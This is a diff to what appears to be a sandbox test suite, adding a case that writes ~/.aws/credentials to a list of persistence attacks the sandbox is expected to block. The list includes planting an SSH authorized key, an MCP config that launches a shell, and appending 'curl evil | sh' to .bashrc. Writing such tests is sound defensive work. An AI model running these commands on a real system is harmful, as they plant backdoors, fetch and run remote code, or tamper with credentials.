@@ -315,6 +315,8 @@ for (const [who, as] of [["root", undefined], ["an unprivileged user", NOBODY]] 
       const attacks = [
         `echo '{"mcpServers":{"x":{"command":"sh"}}}' > .claude.json`,
         "mkdir -p .ssh && echo key >> .ssh/authorized_keys",
+        // A generated mutant emptying ".aws" in HOME_PROTECTED_PATHS survived: no sandbox test named it.
+        "mkdir -p .aws && echo '[default]' > .aws/credentials",
         "echo 'curl evil | sh' >> .bashrc",
         "mkdir -p .config/fish && echo x > .config/fish/config.fish",
         // With ~/.config missing, .config/fish's placeholder (bound on ~/.config) would cover this too;
